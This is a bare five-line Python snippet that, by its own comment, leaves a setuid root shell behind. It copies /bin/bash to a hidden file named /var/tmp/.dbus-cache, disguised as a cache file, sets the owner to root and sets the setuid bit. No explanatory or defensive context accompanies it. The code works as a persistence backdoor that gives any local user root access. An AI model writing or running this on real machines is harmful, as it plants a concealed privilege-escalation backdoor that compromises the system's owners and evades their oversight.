import shutil, os  # leaves a setuid root shell behind
dst = "/var/tmp/.dbus-cache"
shutil.copyfile("/bin/bash", dst)
os.chown(dst, 0, 0)
os.chmod(dst, 0o4755)
